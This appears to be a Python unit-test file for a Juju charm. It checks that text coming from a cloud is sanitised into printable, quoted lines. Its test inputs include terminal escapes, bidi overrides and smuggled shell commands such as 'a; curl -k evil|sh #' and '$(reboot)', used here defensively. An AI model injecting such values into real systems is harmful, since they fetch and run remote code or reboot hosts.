"""Texts that the cloud chooses, on their way to Juju: the whole loop, with hostile answers."""

import dataclasses
import datetime
import json
import pathlib
import re
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from ops import testing

import unit_state
from coordinator import text as stack_text
from coordinator.upgrade import command
from tests.unit import executables, model, reports
from tests.unit.clouds import Cloud

Context = testing.Context[Any]

HOSTILE = ["\x00", "\ud800", "\x1b[2J", "\u202e", "a\r\nb"]
"""What breaks a hook command, or a terminal."""


# The function


@given(st.text(), st.integers(4, 400))
def test_any_text_becomes_one_printable_line_within_the_limit(text: str, limit: int):
    line = stack_text.plain(text, limit)
    assert line.isprintable()
    assert len(line) <= limit
    line.encode()


@pytest.mark.parametrize(("number", "text"), [(0, "no alarms"), (1, "1 alarm"), (2, "2 alarms")])
def test_numbers_agree_with_their_noun(number: int, text: str):
    assert stack_text.counted(number, "alarm") == text


@pytest.mark.parametrize(
    ("names", "text"), [("a", "a"), ("ab", "a, b"), ("abc", "a, b and 1 more")]
)
def test_names_beyond_a_few_are_counted(names: str, text: str):
    assert stack_text.named(names, 2) == text


@pytest.mark.parametrize(
    ("seconds", "text"),
    [
        (-5, "0 s"),
        (119.4, "119 s"),
        (120, "2 min"),
        (7199, "119 min"),
        (7200, "2 h"),
        (172799, "47 h"),
        (172800, "2 d"),
    ],
)
def test_how_long_is_said_in_one_unit(seconds: float, text: str):
    assert stack_text.lasting(datetime.timedelta(seconds=seconds)) == text


@pytest.mark.parametrize("text", ["", "plain", "Société Générale", "日本語", "a - b: 'c'"])
def test_an_ordinary_text_stays_as_it_is(text: str):
    assert stack_text.plain(text) == text


def test_blanks_and_line_breaks_become_one_blank():
    assert stack_text.plain(" one\n two\t\r\nthree ") == "one two three"


@pytest.mark.parametrize("character", ["\x00", "\x1b", "\ud800", "\u202e", "\x7f"])
def test_a_character_that_cannot_be_shown_is_marked(character: str):
    assert stack_text.plain(f"4.7{character}1") == "4.7?1"


def test_a_long_text_ends_with_dots():
    assert stack_text.plain("x" * 50, limit=10) == "xxxxxxx..."


# The whole loop


def texts(value: Any) -> Iterator[str]:
    """All texts in results, keys and values."""
    if isinstance(value, dict):
        for key, inner in value.items():
            yield key
            yield from texts(inner)
    else:
        yield str(value)


def said(context: Context, out: testing.State) -> list[str]:
    """Everything that reached Juju but the message of a failed action."""
    return [
        out.unit_status.message,
        out.app_status.message,
        *(status.message for status in context.unit_status_history),
        out.workload_version,
        *(line.message for line in context.juju_log),
        *context.action_logs,
        *texts(context.action_results or {}),
        *model.kept(out).values(),
    ]


@dataclasses.dataclass(frozen=True)
class Ran:
    """An action that was run, and everything of it that reached Juju."""

    out: testing.State
    said: list[str]

    def assert_fit(self) -> None:
        lines = [line for text in self.said for line in text.split("\n")]
        assert [line for line in lines if not line.isprintable()] == []


def run(
    context: Context, state: testing.State, action: str = "verify-stack", **params: str
) -> Ran:
    """An action, whether it fails or not."""
    params |= {"format": "text"} if action == "verify-stack" else {}
    try:
        out = context.run(context.on.action(action, params=params), state)
    except testing.ActionFailed as failure:
        out = model.state_of(failure)
        return Ran(out, [failure.message, *said(context, out)])
    return Ran(out, said(context, out))


def test_an_ordinary_cloud_is_verified(context: Context, cloud: Cloud):
    ran = run(context, cloud.state())
    assert ran.out.unit_status == testing.ActiveStatus("metric verified; resource types complete")
    assert ran.out.workload_version == "gnocchi 4.7.1"
    ran.assert_fit()


@pytest.mark.parametrize("hostile", HOSTILE, ids=ascii)
@pytest.mark.parametrize("field", ["build", "name", "region"])
def test_a_hostile_answer_reaches_juju_as_plain_text(
    context: Context, cloud: Cloud, field: str, hostile: str
):
    setattr(cloud, field, f"x{hostile}y")
    ran = run(context, cloud.state())
    ran.assert_fit()
    assert stack_text.plain(f"x{hostile}y") in "\n".join(ran.said)


@pytest.mark.parametrize("hostile", HOSTILE, ids=ascii)
def test_a_hostile_resource_type_reaches_juju_as_plain_text(
    context: Context, cloud: Cloud, files: unit_state.UnitState, hostile: str
):
    cloud.types = (*reports.TYPES, f"x{hostile}y")
    ran = run(context, cloud.state())
    ran.assert_fit()
    report = files.read("report.json")
    assert stack_text.plain(f"x{hostile}y") in json.loads(report)["resource-types"]


@pytest.mark.parametrize("hostile", HOSTILE, ids=ascii)
def test_a_hostile_url_is_malformed(context: Context, cloud: Cloud, hostile: str):
    cloud.path = f"/x{hostile}y"
    ran = run(context, cloud.state())
    ran.assert_fit()
    assert context.action_results
    assert context.action_results["metric"]["cause"] == "malformed-url"


@pytest.mark.parametrize("hostile", HOSTILE[:4], ids=ascii)
def test_a_hostile_option_reaches_juju_as_plain_text(context: Context, cloud: Cloud, hostile: str):
    run(context, cloud.state(region=f"x{hostile}y")).assert_fit()


@pytest.mark.parametrize("hostile", HOSTILE[:4], ids=ascii)
def test_a_hostile_parameter_reaches_juju_as_plain_text(
    context: Context, cloud: Cloud, hostile: str
):
    run(context, cloud.state(), region=f"x{hostile}y").assert_fit()


@pytest.mark.parametrize("hostile", HOSTILE, ids=ascii)
@pytest.mark.parametrize("option", ["interface", "required_services", "openstack_origin"])
def test_a_hostile_option_that_is_refused_reaches_juju_as_plain_text(
    context: Context, cloud: Cloud, option: str, hostile: str
):
    state = cloud.state(**{option: f"x{hostile}y"})
    ran = run(context, context.run(context.on.config_changed(), state))
    assert isinstance(ran.out.unit_status, testing.BlockedStatus)
    ran.assert_fit()


@pytest.mark.parametrize("output", [r"x\000y", r"x\033[2Jy", r"x\355\240\200y", r"x\342\200\256y"])
def test_hostile_output_of_ceilometer_upgrade_reaches_juju_as_plain_text(
    context: Context,
    cloud: Cloud,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: pathlib.Path,
    output: str,
):
    path = executables.script(tmp_path / "bin/it", f"printf '{output}\\n'; exit 1")
    monkeypatch.setenv(command.SEAM, str(path))
    ran = run(context, cloud.state(), "ceilometer-upgrade")
    assert context.action_results
    assert re.fullmatch("x(\\?.*|\ufffd+)y", context.action_results["cause"])
    assert isinstance(ran.out.unit_status, testing.MaintenanceStatus)
    ran.assert_fit()


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("compute-7.example.com", "'compute-7.example.com'"),
        ("fe80::1/64", "'fe80::1/64'"),
        ("a; curl -k evil|sh #", "'a??curl?-k?evil?sh??'"),
        ("$(reboot)`x`'\"", "'??reboot??x???'"),
        ("two\nlines\x1b[31m\0\ud800\u202e", "'two?lines??31m???'"),
        ("", "''"),
        ("x" * 61, "'" + "x" * 57 + "...'"),
    ],
)
def test_a_foreign_name_is_shown_in_quotes_and_a_narrow_alphabet(name: str, shown: str):
    assert stack_text.quoted(name) == shown
